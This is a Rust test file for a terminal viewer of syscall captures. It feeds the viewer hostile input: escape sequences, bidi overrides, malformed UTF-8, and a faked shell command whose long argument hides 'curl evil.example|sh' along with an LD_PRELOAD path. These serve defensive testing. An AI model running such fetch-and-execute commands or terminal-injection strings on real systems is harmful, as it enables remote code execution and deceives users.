//! The whole screen on malicious captures, with random keys.

mod alerts;
mod random;

use std::fs::File;
use std::io::BufWriter;

use ratatui::buffer::Buffer;
use scap_capture_format::event::{EventFlags, EventNum, EventRef, Params, Pid, Tid, Timestamp};
use scap_capture_format::native::{
    CaptureWriter, Header, Loss, LossCause, LossReport, SchemaDescription, WriterOptions,
};
use scap_capture_format::schema::{EventType, event_info, types};
use unicode_width::UnicodeWidthStr as _;

use super::model::{Overlay, TextPane};
use super::update::update;
use super::*;
use crate::rules::{Loader, Matching, Selection, Settings};

/// CPU time limit of a key, without its background work.
const LONGEST: Duration = Duration::from_millis(50);

/// Start of the generated captures.
const START: u64 = 1_790_000_000_000_000_000;

/// A generated capture.
struct MadeUp {
    writer: CaptureWriter<BufWriter<File>>,
    num: u64,
}

impl MadeUp {
    fn new(path: &Path) -> Self {
        let mut header = Header {
            schema: SchemaDescription::full(),
            ..Header::default()
        };
        header.machine.host_name = "host\u{1b}[31m\u{202e}".to_owned();
        header.machine.arch = "x86_64".to_owned();
        let out = BufWriter::new(File::create(path).unwrap());
        let writer = CaptureWriter::new(out, &header, WriterOptions::default()).unwrap();
        Self { writer, num: 0 }
    }

    fn push(&mut self, ty: EventType, ns: u64, tid: i64, latency: Option<u64>, params: &[&[u8]]) {
        self.num += 1;
        let lens: Vec<u32> = params.iter().map(|p| p.len() as u32).collect();
        let bytes = params.concat();
        let event = EventRef {
            num: EventNum(self.num),
            ts: Timestamp(START + ns),
            tid: Tid(tid),
            pid: Pid(tid),
            cpu: 0,
            ty,
            latency,
            flags: EventFlags::empty(),
            params: Params::new(&lens, &bytes).unwrap(),
        };
        self.writer.push(&event).unwrap();
    }

    fn lose(&mut self, from: u64, to: u64, count: u64) {
        let loss = Loss {
            cause: LossCause::RING_FULL,
            cpu: 1,
            count,
            from: Timestamp(START + from),
            to: Timestamp(START + to),
        };
        let report = LossReport {
            losses: vec![loss],
            ..LossReport::default()
        };
        self.writer.write_loss(&report).unwrap();
    }

    fn finish(self) {
        self.writer.finish().unwrap();
    }
}

/// Rules, with texts of an attacker, of which one matches every event and one many.
const RULES: &str = r#"
- rule: "every \e[31m\u202E event \u65e5"
  desc: "\e[2J"
  condition: evt.num > 0
  output: "%proc.name \e]0;x\a %fd.name %evt.args %evt.buffer"
  priority: INFO
  tags: [mitre_execution, T1059]
- rule: opens
  desc: d
  condition: evt.type in (open, openat)
  output: "%fd.name"
  priority: CRITICAL
  tags: [mitre_execution, mitre_discovery]
- rule: twice
  desc: d
  condition: evt.type = open
  output: "%proc.name"
  priority: WARNING
  scap: {count: 2, within: 1h, by: evt.type}
"#;

fn rules() -> Arc<Rules> {
    let mut loader = Loader::new(Settings::default());
    loader.add("rules.yaml", RULES);
    let (reports, rules) = loader.finish();
    let rules = rules.unwrap_or_else(|| panic!("{:?}", reports[0].findings));
    Arc::new(Rules::new(rules, Selection::default(), Matching::All))
}

fn options() -> Options {
    Options {
        name: "made-up\u{7}.scap".to_owned(),
        theme: Theme::Dark,
        filter: String::new(),
        range: None,
        live: false,
        beside: None,
        of_damaged: false,
        parents: Vec::new(),
        rules: None,
    }
}

fn open(path: &Path, size: (u16, u16)) -> Screen {
    let capture = Arc::new(IndexedCapture::open(path).unwrap());
    Screen::open(&capture, options(), Notes::default(), size).unwrap()
}

/// Opens a capture with rules of an attacker.
fn open_with_rules(path: &Path, size: (u16, u16)) -> Screen {
    let options = Options {
        rules: Some(rules()),
        ..options()
    };
    let capture = Arc::new(IndexedCapture::open(path).unwrap());
    Screen::open(&capture, options, Notes::default(), size).unwrap()
}

fn press(screen: &mut Screen, script: &str) {
    for key in keys::parse(script).unwrap() {
        screen.press(key).unwrap();
    }
}

/// Checks that the screen has no control sequences, and that the width of every cell is right.
fn check(buffer: &Buffer) {
    for y in buffer.area.top()..buffer.area.bottom() {
        let mut x = buffer.area.left();
        while x < buffer.area.right() {
            let symbol = buffer[(x, y)].symbol();
            let is_safe = |c: char| !crate::event::text::is_unsafe(c);
            assert!(symbol.chars().all(is_safe), "{symbol:?} at {x},{y}");
            assert!(symbol.chars().count() <= 5, "{symbol:?} at {x},{y}");
            x += (symbol.width() as u16).max(1);
        }
        assert_eq!(
            x,
            buffer.area.right(),
            "a character is cut in half in row {y}"
        );
    }
}

/// Malicious texts.
fn nasty() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = [
        "\u{1b}[2J\u{1b}[31mred\u{7}",
        "\u{202e}gpj.exe\u{2066}",
        "\u{65e5}\u{672c}\u{8a9e}\u{ff21}\u{1f600}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "a\r\nb\tc\u{b}d",
        "\u{9b}31m\u{90}q",
        "quote\"s and 'more' \\ (and) = !",
        "\u{feff}\u{ad}\u{2028}",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .collect();
    all.push(format!("z{}", "\u{301}\u{336}".repeat(3000)).into_bytes());
    all.push(vec![0xff, 0xc3, 0x28, 0xe2, 0x82]);
    all.push("\u{65e5}".repeat(2000).into_bytes());
    all
}

fn hostile_capture(path: &Path) {
    let mut made = MadeUp::new(path);
    let i64 = |n: i64| n.to_le_bytes();
    for (at, text) in nasty().into_iter().enumerate() {
        let (ns, tid) = (at as u64 * 1_000_000, 100 + at as i64);
        let name = [&text[..text.len().min(4000)], b"\0"].concat();
        // fd, name, flags, mode, dev, ino, … of `open`.
        let (fd, flags) = (i64(3), 1_u32.to_le_bytes());
        let absolute = [b"/tmp/", &name[..]].concat();
        made.push(
            types::SYSCALL_OPEN_X,
            ns,
            tid,
            Some(5_000_000),
            &[&fd, &absolute, &flags, &flags],
        );
        let args = [&name[..], b"second\0"].concat();
        let none = i64(0);
        let small = 0_u32.to_le_bytes();
        made.push(
            types::SYSCALL_EXECVE_19_X,
            ns + 10,
            tid,
            Some(1_000),
            &[
                &none,
                &absolute,
                &args,
                &i64(tid),
                &i64(tid),
                &i64(1),
                b"/\0",
                &i64(1024),
                &none,
                &none,
                &small,
                &small,
                &small,
                &name,
                b"cpu=/\0",
                b"A=1\0",
                &small,
            ],
        );
        let data = vec![b"\x1b]0;title\x07\xe2\x80\xae"[at % 12]; 300_000];
        made.push(
            types::SYSCALL_WRITE_X,
            ns + 20,
            tid,
            Some(100),
            &[&i64(300_000), &data, &fd, &small],
        );
        let res = i64(-2);
        made.push(
            types::SYSCALL_OPEN_X,
            ns + 30,
            tid,
            Some(10),
            &[&res, &absolute, &flags, &flags],
        );
    }
    made.finish();
}

/// Keys that open every view and pane.
const TOUR: &str = "1<Down><Enter><Backspace>2<Enter>xxx<End><Esc>e<Down>x<PageDown>x<End><Esc>3=<Esc>\
                    t<Enter><Down><Esc>t<Down><Enter><Esc>t<Down><Down><Enter><Esc>4<Enter><Backspace>5678\
                    9<Enter><Esc><Backspace>A<Enter><Down>i<Esc><Enter>i<Esc><Esc><Backspace>x<Down><Enter>x\
                    =<Esc>d<Backspace>1<Home><Up>i<Esc><Enter>0<Tab><Tab><Tab><Space><Right><Up><Enter><Backspace><Tab><F7><Esc>\
                    ?<PageDown><Esc><F2><Down><Esc>:proc<Tab><Esc>4\\a<Enter>/a<Enter>ns<Esc>";

#[test]
fn nothing_that_a_capture_holds_reaches_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.scap");
    hostile_capture(&path);
    for size in [(80, 24), (161, 50), (40, 16)] {
        let mut screen = open_with_rules(&path, size);
        check(&screen.draw());
        for key in keys::parse(TOUR).unwrap() {
            screen.press(key).unwrap();
            check(&screen.draw());
        }
        assert!(!screen.quit);
    }
}

#[test]
fn an_argument_of_ten_megabytes_is_shown_cut() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("large.scap");
    let mut made = MadeUp::new(&path);
    let data = vec![b'\x1b'; 10 << 20];
    let res = (10_i64 << 20).to_le_bytes();
    let fd = 1_i64.to_le_bytes();
    made.push(
        types::SYSCALL_WRITE_X,
        0,
        1,
        Some(1),
        &[&res, &data, &fd, &0_u32.to_le_bytes()],
    );
    made.finish();
    let mut screen = open(&path, (120, 40));
    press(&mut screen, "2<Enter>");
    let shown = screenshot::text(&screen.draw());
    assert!(shown.contains("10485760"), "{shown}");
    check(&screen.draw());
    press(&mut screen, "<Esc>e");
    check(&screen.draw());
    press(&mut screen, "xx<End>");
    check(&screen.draw());
}

/// A capture of a program whose long argument ends with what matters; returns the argument.
fn long_command(path: &Path) -> String {
    let mut made = MadeUp::new(path);
    let long = format!("# nothing\n{}; curl evil.example|sh", "x".repeat(1500));
    let args = format!("-c\0{long}\0two words\0");
    let env = format!("A=1\0LD_PRELOAD=/tmp/{}.so\0\x1b=x\0", "y".repeat(1500));
    let (zero, one, none) = (0_i64.to_le_bytes(), 1_i64.to_le_bytes(), &[][..]);
    let params: &[&[u8]] = &[
        &zero,
        b"/bin/sh\0",
        args.as_bytes(),
        &one,
        &one,
        &one,
        b"\0",
        &zero,
        &zero,
        &zero,
        &[0; 4],
        &[0; 4],
        &[0; 4],
        b"a-script\0",
        none,
        env.as_bytes(),
    ];
    made.push(types::SYSCALL_EXECVE_19_X, 0, 1, Some(1), params);
    made.finish();
    long.replace('\n', "\\n")
}

/// Returns what is inside the frame of a text, without the line breaks of the screen.
fn inside(screen: &mut Screen) -> String {
    let shown = screenshot::text(&screen.draw());
    let lines = shown
        .lines()
        .filter_map(|line| line.strip_prefix('\u{2502}'));
    lines
        .map(|line| line.trim_end_matches(['\u{2502}', ' ']))
        .collect()
}

#[test]
fn a_command_line_is_what_was_executed_and_all_of_it_is_read_copied_and_saved() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("command.scap");
    let long = long_command(&path);
    let mut screen = open(&path, (120, 40));
    // The name of the script is not the program.
    for view in ["6", "3"] {
        press(&mut screen, view);
        let shown = screenshot::text(&screen.draw());
        assert!(shown.contains("/bin/sh -c # nothing\\nxxx"), "{shown}");
        press(&mut screen, "i");
        check(&screen.draw());
        let shown = inside(&mut screen);
        assert!(
            shown.contains(&format!("/bin/sh -c {long} two words")),
            "{shown}"
        );
        press(&mut screen, "<Esc>");
    }
    press(&mut screen, "2<Enter>");
    let mut whole = |name: &str, value: &str| {
        press(&mut screen, "<Home>");
        let Some(Overlay::Detail(pane)) = screen.model.layers.last() else {
            panic!("no details");
        };
        let detail = pane.detail.as_ref().unwrap();
        let mut entries = detail.groups.iter().flat_map(|group| &group.entries);
        let at = entries.position(|entry| entry.name == name).unwrap();
        press(&mut screen, &format!("{}<Enter>", "j".repeat(at)));
        check(&screen.draw());
        assert!(inside(&mut screen).contains(value), "{name}");
        let to = dir.path().join(format!("{name}.txt"));
        press(&mut screen, &format!("yw{}<Enter>", to.display()));
        assert_eq!(screen.copied.last().unwrap(), value);
        assert_eq!(std::fs::read_to_string(to).unwrap(), format!("{value}\n"));
        press(&mut screen, "<Esc>");
    };
    whole("argv[0]", "/bin/sh");
    whole("argv[2]", &long);
    whole("argv[3]", "two words");
    whole("LD_PRELOAD", &format!("/tmp/{}.so", "y".repeat(1500)));
    whole("\\x1b", "x");
    whole("proc.exeline", &format!("/bin/sh -c {long} two words"));
    // Nothing is overwritten, and a file without the extension is not written.
    let file = dir.path().join("argv[0]");
    press(
        &mut screen,
        &format!("<Home><Enter>w{}.txt<Enter>", file.display()),
    );
    assert!(
        screen
            .model
            .status
            .as_ref()
            .unwrap()
            .contains("already exists")
    );
    press(&mut screen, &format!("w{}<Enter>", file.display()));
    assert!(screen.model.status.as_ref().unwrap().contains(".txt") && !file.exists());
    // At another width the text is wrapped again.
    press(&mut screen, "<Esc><Home><Down><Down><Enter>");
    let commands = update(&mut screen.model, Message::Resize(50, 20));
    screen.carry_out(commands);
    check(&screen.draw());
    let lines = inside(&mut screen);
    assert!(lines.starts_with("-c.# nothing."), "{lines}");
    press(&mut screen, "<End>");
    assert!(inside(&mut screen).contains("curl evil.example|sh"));
}

#[test]
fn a_search_finds_what_the_line_shows() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("shown.scap");
    let mut made = MadeUp::new(&path);
    let (fd, flags) = (3_i64.to_le_bytes(), 0x1001_u32.to_le_bytes());
    let opened = |made: &mut MadeUp, ns, latency, name: &[u8]| {
        let params: &[&[u8]] = &[&fd, &(-100_i64).to_le_bytes(), name, &flags];
        made.push(types::SYSCALL_OPENAT_2_X, ns, 77, Some(latency), params);
    };
    opened(&mut made, 0, 1, b"/plain\0");
    opened(&mut made, 1_234_567_000, 8_003_000_000, b"/a\x1b[2J\xff\0");
    opened(&mut made, 2_000_000_000, 1, b"/\xc3\x89t\xc3\xa9\0");
    made.push(
        types::SYSCALL_CLOSE_X,
        3_000_000_000,
        77,
        Some(1),
        &[&0_i64.to_le_bytes(), &fd],
    );
    made.finish();
    let mut screen = open(&path, (120, 40));
    let mut found = |text: &str| {
        press(&mut screen, "2<Home>");
        let typed = text.replace('<', "<lt>");
        press(&mut screen, &format!("/{typed}<Enter>"));
        screen.model.events.selected_line().map(|line| line.num)
    };
    assert_eq!(found("\\x1b[2J\\xff"), Some(2));
    assert_eq!(found("8.00s"), Some(2));
    let shown = cells::time(START + 1_234_567_000);
    assert_eq!(found(&shown), Some(2));
    assert_eq!(found("\u{c9}T\u{e9}"), Some(3));
    assert_eq!(found("close"), Some(4));
    // The first event is found from the last one on only.
    assert_eq!(found("(O_RDONLY|O_CLOEXEC)"), Some(2));
    assert_eq!(found("<f>/\u{e9}t\u{e9}"), Some(3));
    // In a text, also across the end of a line, and in the state at the cursor.
    press(&mut screen, "?/next match<Enter>");
    assert!(screenshot::text(&screen.draw()).contains("next match"));
    press(&mut screen, "<Esc>t<Enter>/no such row<Enter>");
    assert!(
        screen
            .model
            .status
            .as_ref()
            .unwrap()
            .contains("nothing contains")
    );
}

#[test]
fn the_state_at_the_cursor_is_sorted_searched_and_narrowed_as_views_are() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/intrusion.scap");
    let mut screen = open(&path, (160, 40));
    screen.model.cursor = screen.model.whole.from + 9_000_000_000;
    // The open files.
    press(&mut screen, "t<Down><Down><Down><Enter>");
    let files = |screen: &Screen, column: usize| {
        let pane = screen.model.state_pane().unwrap();
        let cell = |at: usize| cells::text(&pane.row_at(at).unwrap().cells[column], 200);
        (0..pane.order.len()).map(cell).collect::<Vec<_>>()
    };
    let all = files(&screen, 6);
    assert!(all.len() > 10);
    // By name, and back.
    press(&mut screen, "s<End><Enter>");
    let sorted = files(&screen, 6);
    assert!(sorted.is_sorted() && sorted != all, "{sorted:?}");
    press(&mut screen, "r");
    assert!(files(&screen, 6).iter().rev().is_sorted());
    // The order and the text stay when the time changes.
    press(&mut screen, "\\/dev/null<Enter>");
    let kept = files(&screen, 6);
    assert!(
        !kept.is_empty() && kept.iter().all(|name| name.contains("/dev/null")),
        "{kept:?}"
    );
    press(&mut screen, "<Left>");
    let before = files(&screen, 6);
    assert!(
        before.iter().all(|name| name.contains("/dev/null")),
        "{before:?}"
    );
    assert_eq!(screen.model.state_pane().unwrap().sort, Some((6, true)));
    press(&mut screen, "\\<C-u><Enter>/dev/null<Enter>");
    let pane = screen.model.state_pane().unwrap();
    assert!(pane.order.len() > before.len());
    let row = pane.row().unwrap();
    assert!(cells::text(&row.cells[6], 200).contains("/dev/null"));
    // The view below it is as it was.
    assert!(screen.model.pane.within.is_empty() && screen.model.pane.is_as_it_comes());
}

#[test]
fn a_search_in_a_value_finds_what_its_lines_divide() {
    let value = format!("{}needle{}", "a".repeat(17), "b".repeat(30));
    let mut pane = TextPane::of_value("x".to_owned(), value, 20);
    assert_eq!(pane.find("needle", true), Some(0));
    pane.top = 1;
    assert_eq!(pane.find("needle", true), Some(0));
    assert_eq!(pane.find("bb", false), Some(2));
    assert_eq!(pane.find("zzz", true), None);
}

#[test]
fn what_the_clipboard_does_not_take_is_said() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("long.scap");
    let mut made = MadeUp::new(&path);
    let args = vec![b'a'; 100_000];
    let zero = 0_i64.to_le_bytes();
    let params: &[&[u8]] = &[&zero, b"/bin/sh\0", &args];
    made.push(types::SYSCALL_EXECVE_19_X, 0, 1, Some(1), params);
    made.finish();
    let mut screen = open(&path, (80, 24));
    press(&mut screen, "2<Enter><Down><Down><Enter>y");
    let status = screen.model.status.clone().unwrap();
    assert_eq!(status, "copied only 65536 of 100000 bytes");
    assert_eq!(screen.copied.last().unwrap().len(), 65_536);
}

#[test]
fn an_empty_capture_and_one_of_losses_have_a_screen() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("empty.scap");
    MadeUp::new(&path).finish();
    let mut screen = open_with_rules(&path, (80, 24));
    press(&mut screen, TOUR);
    check(&screen.draw());
    let path = dir.path().join("lost.scap");
    let mut made = MadeUp::new(&path);
    made.push(
        types::SYSCALL_GETUID_X,
        0,
        1,
        Some(1),
        &[&0_u32.to_le_bytes()],
    );
    made.lose(1_000_000, 400_000_000, 1234);
    made.push(
        types::SYSCALL_GETUID_X,
        1_000_000_000,
        1,
        Some(1),
        &[&0_u32.to_le_bytes()],
    );
    made.finish();
    let mut screen = open(&path, (80, 24));
    let shown = screenshot::text(&screen.draw());
    assert!(
        shown.contains("1,234 LOST") && shown.contains("1,234 events lost"),
        "{shown}"
    );
    // 40 % of the 70 columns are hatched.
    assert_eq!(shown.matches('\u{2592}').count(), 28, "{shown}");
    press(&mut screen, "<S-Tab>");
    let shown = screenshot::text(&screen.draw());
    assert!(shown.contains("ring full"), "{shown}");
}

#[test]
fn saving_makes_a_capture_text_and_json_and_overwrites_nothing() {
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/sample.scap");
    let dir = tempfile::tempdir().unwrap();
    let mut screen = open(&sample, (80, 24));
    let to = |name: &str| -> PathBuf { dir.path().join(name) };
    let mut save = |name: &str| {
        press(&mut screen, &format!("w{}<Enter>", to(name).display()));
        screen.model.status.clone().unwrap()
    };
    let all = save("all.scap");
    assert!(
        all.starts_with("2096 events in") || all.starts_with("2,096"),
        "{all}"
    );
    assert!(save("all.scap").contains("already exists"));
    save("all.txt");
    save("all.json");
    assert!(save("all.exe").contains("the extension has to be"));
    assert_eq!(
        IndexedCapture::open(&to("all.scap"))
            .unwrap()
            .index()
            .events(),
        2096
    );
    let lines = |name: &str| std::fs::read_to_string(to(name)).unwrap().lines().count();
    assert_eq!((lines("all.txt"), lines("all.json")), (2096, 2096));
    // Only what is narrowed to.
    press(&mut screen, ":evt.type=execve<Enter>");
    press(
        &mut screen,
        &format!("w{}<Enter>", to("execs.txt").display()),
    );
    let execs = std::fs::read_to_string(to("execs.txt")).unwrap();
    assert!(execs.lines().count() > 5 && execs.lines().all(|l| l.contains(" execve ")));
}
